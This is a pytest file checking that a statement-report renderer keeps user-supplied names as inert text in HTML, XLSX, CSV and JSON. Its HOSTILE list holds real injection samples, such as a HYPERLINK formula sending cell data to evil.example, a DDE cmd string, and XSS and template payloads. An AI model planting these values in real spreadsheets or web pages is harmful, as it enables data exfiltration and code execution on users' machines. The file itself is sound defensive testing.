"""Whatever a name or a reason says, it stays text in every format."""

import csv
import io
import json
from collections.abc import Callable
from html.parser import HTMLParser

import openpyxl
import pytest

from reports.datasets.statement import StatementReport
from reports.layouts.wording import Reader
from reports.render import render

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "\t=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    '"></style><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% raw %}",
    "𠮷野家𬭚有限公司",  # beyond the basic plane
    "名" * 40_000,
    "bell\x07 and \x0b vertical tab \x1f",
    "&R&D",
]
Make = Callable[[str], StatementReport]


class Tags(HTMLParser):
    """Every element and attribute of a page, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:12]))
def test_a_page_holds_no_element_that_a_name_brought(
    text: str, hostile_statement: Make, chinese: Reader
) -> None:
    page = Tags(render(hostile_statement(text), "html", chinese).decode())
    assert page.names.isdisjoint({"script", "img", "iframe", "a", "link", "object"})
    assert not {name for name in page.attributes if name.startswith("on")}
    if text.isprintable():
        assert text in page.text


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:12]))
def test_a_workbook_computes_nothing_of_a_name(text: str, hostile_statement: Make, chinese: Reader) -> None:
    content = render(hostile_statement(text), "xlsx", chinese)
    book = openpyxl.load_workbook(io.BytesIO(content))
    formulas = [
        cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas
    for formula in formulas:
        assert str(formula).startswith(("=ROUND(SUM(", "=ROUND(SUMPRODUCT(", "=SUM(", "='", "=IF(N("))
    linked = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.hyperlink]
    assert not linked


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:12]))
def test_csv_text_never_begins_like_a_formula(text: str, hostile_statement: Make, chinese: Reader) -> None:
    content = render(hostile_statement(text), "csv", chinese).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert rows
    for row in rows:
        assert not row["vm"].startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
        float(row["amount"])
    assert any(float(row["amount"]) < 0 for row in rows)


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:12]))
def test_json_says_exactly_what_the_ledger_says(text: str, hostile_statement: Make, chinese: Reader) -> None:
    document = json.loads(render(hostile_statement(text), "json", chinese))
    assert document["lines"][0]["vm"] == text
    assert document["unit"] == {"code": "fin", "name": text}
